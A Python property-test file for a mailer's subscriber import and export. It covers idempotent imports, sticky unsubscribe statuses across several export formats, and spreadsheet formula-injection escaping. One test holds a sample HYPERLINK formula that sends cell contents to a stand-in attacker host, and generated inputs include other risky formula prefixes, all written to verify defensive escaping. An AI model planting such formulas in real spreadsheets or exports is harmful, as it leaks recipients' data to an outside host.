"""Properties of import over random valid lists and files of every format, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import zipfile
from dataclasses import dataclass
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mailer.headersafety import one_line
from mailer.store import ImportCounts, MemberRecord, SubscriberStatus, SubscriberStore
from mailer.store.columnmap import ColumnMap
from mailer.store.csvio import import_members, write_members
from mailer.store.importing import import_list

# Printable text without the characters a spreadsheet cell cannot hold (NUL and
# other controls; PostgreSQL refuses NUL in text) or that CSV tags split on.
# Without '=?', which a name, organisation or region may not hold (mailer.headersafety).
TEXT = st.text(st.characters(exclude_categories=("Cs", "Cc")), max_size=30).filter(
    lambda text: "=?" not in text
)
TAG = st.text(
    st.characters(exclude_categories=("Cs", "Cc", "Zs"), exclude_characters=";,"),
    min_size=1,
    max_size=12,
)
LOCAL = st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._+-]{0,15}", fullmatch=True).filter(
    lambda local: ".." not in local and not local.endswith(".")
)
DOMAIN = st.sampled_from(
    ["example.org", "Example.COM", "lists.example.net", "bücher.example", "xn--caf-dma.example"]
)
ATTRIBUTES = ["member_type", "Size", "Notes"]


@st.composite
def member_lists(draw: st.DrawFn) -> tuple[list[str], list[list[str]]]:
    """A header and rows of distinct, valid members, as an editor's spreadsheet might have them."""
    columns = [
        "email",
        *draw(st.permutations(["name", "organisation", "region", "tags", *ATTRIBUTES])),
    ]
    columns = columns[: draw(st.integers(min_value=1, max_value=len(columns)))]
    emails = draw(
        st.lists(
            st.tuples(LOCAL, DOMAIN), max_size=12, unique_by=lambda e: f"{e[0]}@{e[1]}".lower()
        )
    )
    rows = []
    for local, domain in emails:
        cells = {
            "email": f"{local}@{domain}",
            "tags": "; ".join(draw(st.lists(TAG, max_size=3))),
        }
        rows.append([cells.get(column) or draw(TEXT) for column in columns])
    return columns, rows


def as_csv(columns: list[str], rows: list[list[str]], delimiter: str) -> str:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter)
    writer.writerow(columns)
    writer.writerows(rows)
    return out.getvalue()


def wipe(store: SubscriberStore) -> None:
    """Empty the store between examples (members' history goes with them)."""
    with store.engine.begin() as connection:
        connection.exec_driver_sql("DELETE FROM subscribers")
        connection.exec_driver_sql("DELETE FROM suppressions")


def _import(store: SubscriberStore, path: Path, text: str, bom: bool) -> ImportCounts:
    path.write_text(("\ufeff" if bom else "") + text, encoding="utf-8", newline="")
    return import_members(store, path).counts


class TestImportProperties:
    @settings(
        max_examples=40,
        deadline=None,
        # One store per test, emptied by wipe() at the start of each example.
        suppress_health_check=[HealthCheck.function_scoped_fixture],
    )
    @given(members=member_lists(), delimiter=st.sampled_from([",", ";"]), bom=st.booleans())
    def test_importing_a_list_twice_changes_nothing_the_second_time(
        self,
        store: SubscriberStore,
        tmp_path: Path,
        members: tuple[list[str], list[list[str]]],
        delimiter: str,
        bom: bool,
    ) -> None:
        """Any valid list adds every row once; importing it again adds and updates nothing."""
        wipe(store)
        columns, rows = members
        text = as_csv(columns, rows, delimiter)
        path = tmp_path / "members.csv"
        assert ImportCounts(added=len(rows)) == _import(store, path, text, bom)
        before = store.list_subscribers()
        assert ImportCounts(unchanged=len(rows)) == _import(store, path, text, bom)
        assert before == store.list_subscribers()

    @settings(
        max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
    )
    @given(members=member_lists())
    def test_an_export_imports_back_unchanged(
        self, store: SubscriberStore, tmp_path: Path, members: tuple[list[str], list[list[str]]]
    ) -> None:
        """Whatever was imported, its export reads back with every member unchanged."""
        wipe(store)
        columns, rows = members
        _import(store, tmp_path / "members.csv", as_csv(columns, rows, ","), bom=False)
        exported = io.StringIO()
        write_members(store.list_subscribers(), exported)
        counts = _import(store, tmp_path / "export.csv", exported.getvalue(), bom=True)
        assert ImportCounts(unchanged=len(rows)) == counts


# -- statuses stay sticky, whatever the format ------------------------------------------

POOL = [f"member{n}@example.org" for n in range(6)]
LEFT_STATUSES = [status for status in SubscriberStatus if status.sticky]
MAILCHIMP_HEADER = '"Email Address","First Name","Last Name","OPTIN_TIME","TAGS"'


@dataclass(frozen=True)
class Claim:
    """What an imported file says of one address: 'active', 'left' or nothing ('')."""

    email: str
    says: str


def mailchimp_rows(claims: list[Claim], extra: str = "") -> str:
    return "".join(f'"{c.email}","Ann","Lee","2020-01-01 10:00:00",""{extra}\n' for c in claims)


def unsubscribed_file(claims: list[Claim]) -> str:
    header = MAILCHIMP_HEADER + ',"UNSUB_TIME","UNSUB_REASON"\n'
    return header + mailchimp_rows(claims, ',"2024-01-01 10:00:00","no longer wanted"')


def cleaned_file(claims: list[Claim]) -> str:
    return MAILCHIMP_HEADER + ',"CLEAN_TIME"\n' + mailchimp_rows(claims, ',"2024-01-01 10:00:00"')


def subscribed_file(claims: list[Claim]) -> str:
    return MAILCHIMP_HEADER + "\n" + mailchimp_rows(claims)


@st.composite
def imports(draw: st.DrawFn) -> tuple[str, dict[str, bytes], ColumnMap, list[Claim]]:
    """An import in one of the formats: (file name, files by name, column map, claims)."""
    emails = draw(st.lists(st.sampled_from(POOL), unique=True, max_size=len(POOL)))
    says = st.sampled_from(["active", "left", ""])
    claims = [Claim(email, draw(says)) for email in emails]
    fmt = draw(st.sampled_from(["csv", "mapped", "mailchimp", "mailchimp-zip", "listmonk", "listmonk-export"]))  # fmt: skip
    active = [c for c in claims if c.says != "left"]
    left = [c for c in claims if c.says == "left"]
    if fmt in ("csv", "mapped"):

        def status(claim: Claim) -> str:
            if claim.says == "left":
                return draw(st.sampled_from(LEFT_STATUSES)).value
            return claim.says

        rows = "".join(f"{c.email},Ann Lee,{status(c)}\n" for c in claims)
        if fmt == "csv":
            return "members.csv", {"": ("email,name,status\n" + rows).encode()}, ColumnMap(), claims
        columns = ColumnMap.of({"Mail": "email", "Who": "name", "State": "status"}, {})
        return "crm.csv", {"": ("Mail,Who,State\n" + rows).encode()}, columns, claims
    if fmt == "mailchimp":
        kind = draw(st.sampled_from(["subscribed", "unsubscribed", "cleaned", "renamed"]))
        if kind == "subscribed":  # a file of subscribed members says nobody left
            claims = [Claim(c.email, "active") for c in claims]
            return "subscribed_members_export_1.csv", {"": subscribed_file(claims).encode()}, ColumnMap(), claims  # fmt: skip
        claims = [Claim(c.email, "left") for c in claims]
        text = cleaned_file(claims) if kind == "cleaned" else unsubscribed_file(claims)
        name = "members.csv" if kind == "renamed" else f"{kind}_members_export_1.csv"
        return name, {"": text.encode()}, ColumnMap(), claims
    if fmt == "mailchimp-zip":
        # Someone who left may also be listed as subscribed: the leaving must win.
        repeated = left if draw(st.booleans()) else []
        unsubscribed = [c for c in left if draw(st.booleans())]
        cleaned = [c for c in left if c not in unsubscribed]
        files = {
            "subscribed_members_export_1.csv": subscribed_file(active + repeated),
            "unsubscribed_members_export_1.csv": unsubscribed_file(unsubscribed),
            "cleaned_members_export_1.csv": cleaned_file(cleaned),
        }
        return "export.zip", {name: text.encode() for name, text in files.items()}, ColumnMap(), claims  # fmt: skip
    if fmt == "listmonk":  # the import layout has no status: it says nothing of leaving
        claims = [Claim(c.email, "") for c in claims]
        rows = "".join(f'{c.email},Ann Lee,"{{""region"": ""Wales""}}"\n' for c in claims)
        return "listmonk.csv", {"": ("email,name,attributes\n" + rows).encode()}, ColumnMap(), claims  # fmt: skip
    words = {"active": ["enabled"], "": ["enabled"], "left": ["blocklisted", "disabled"]}
    rows = "".join(
        f"u{n},{c.email},Ann Lee,{{}},{draw(st.sampled_from(words[c.says]))},"
        "2023-04-01 09:30:00 +0000 UTC,2024-10-10 12:00:00 +0000 UTC\n"
        for n, c in enumerate(claims)
    )
    header = "uuid,email,name,attributes,status,created_at,updated_at\n"
    return "subscribers.csv", {"": (header + rows).encode()}, ColumnMap(), claims


def write_import(folder: Path, name: str, files: dict[str, bytes]) -> Path:
    path = folder / name
    if list(files) == [""]:
        path.write_bytes(files[""])
        return path
    with zipfile.ZipFile(path, "w") as archive:
        for member, data in files.items():
            archive.writestr(member, data)
    return path


class TestNobodyWhoLeftComesBack:
    @settings(
        max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
    )
    @given(
        before=st.lists(st.sampled_from(list(SubscriberStatus)), max_size=len(POOL)),
        given_import=imports(),
    )
    def test_no_import_of_any_format_turns_a_member_who_left_active(
        self,
        store: SubscriberStore,
        tmp_path: Path,
        before: list[SubscriberStatus],
        given_import: tuple[str, dict[str, bytes], ColumnMap, list[Claim]],
    ) -> None:
        """Whatever the list held and whatever a file says, nobody who was not active becomes
        active, and everyone a file says left is not active after it."""
        wipe(store)
        members = [MemberRecord(email) for email in POOL[: len(before)]]
        store.add(members, source="test")
        for member, status in zip(members, before, strict=True):
            if status.sticky:
                store.set_status(member.email, status, reason="test", source="test")
        was_out = {member.email for member in store.list_subscribers() if member.status.sticky}
        name, files, columns, claims = given_import
        path = write_import(tmp_path, name, files)
        if claims:
            import_list(store, path, columns=columns, skip_invalid=True)
        after = {member.email: member.status for member in store.list_subscribers()}
        assert set() == {email for email in was_out if after[email] is SubscriberStatus.active}
        said_left = {claim.email for claim in claims if claim.says == "left"}
        assert set() == {email for email in said_left if after[email] is SubscriberStatus.active}


# Cells a spreadsheet would run (OWASP's list), and the quotes an export puts before them.
RISKY = st.tuples(
    st.sampled_from(["", "'", "''"]),
    st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "x"]),
    TEXT,
).map(lambda parts: "".join(parts).strip())
# A name, organisation or region is kept on one line by every way in (import, the form).
RISKY_LINE = RISKY.filter(lambda value: one_line(value) == value and "=?" not in value)


class TestFormulaInjection:
    def test_an_export_runs_nothing_in_a_spreadsheet(self, store: SubscriberStore) -> None:
        """Before: a name typed into the sign-up form was exported verbatim, and Excel ran it."""
        attack = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'
        store.add(
            [
                MemberRecord(
                    "ann@example.org",
                    name=attack,
                    organisation="+1 555 0100",
                    region="-East",
                    attributes={"note": "@SUM(A1:A9)"},
                    tags=("-youth",),
                )
            ],
            source="test",
        )
        out = io.StringIO()
        write_members(store.list_subscribers(), out)
        [header, row] = list(csv.reader(io.StringIO(out.getvalue())))
        assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for cell in row)
        cells = dict(zip(header, row, strict=True))
        assert ("'" + attack, "'+1 555 0100", "'-East", "'@SUM(A1:A9)", "'-youth") == (
            cells["name"],
            cells["organisation"],
            cells["region"],
            cells["note"],
            cells["tags"],
        )

    @settings(
        max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
    )
    @given(values=st.lists(st.tuples(RISKY_LINE, RISKY_LINE, RISKY), min_size=1, max_size=6))
    def test_export_then_import_is_lossless(
        self, store: SubscriberStore, tmp_path: Path, values: list[tuple[str, str, str]]
    ) -> None:
        """Import takes off exactly the quote export added: every member reads back unchanged."""
        wipe(store)
        store.add(
            [
                MemberRecord(
                    f"m{n}@example.org",
                    organisation=organisation,
                    region=region,
                    attributes={"note": note} if note else {},
                )
                for n, (organisation, region, note) in enumerate(values)
            ],
            source="test",
        )
        before = store.list_subscribers()
        exported = io.StringIO()
        write_members(before, exported)
        wipe(store)
        counts = _import(store, tmp_path / "export.csv", exported.getvalue(), bom=False)
        assert len(values) == counts.added
        after = {
            m.email: (m.organisation, m.region, m.attributes) for m in store.list_subscribers()
        }
        assert {m.email: (m.organisation, m.region, m.attributes) for m in before} == after
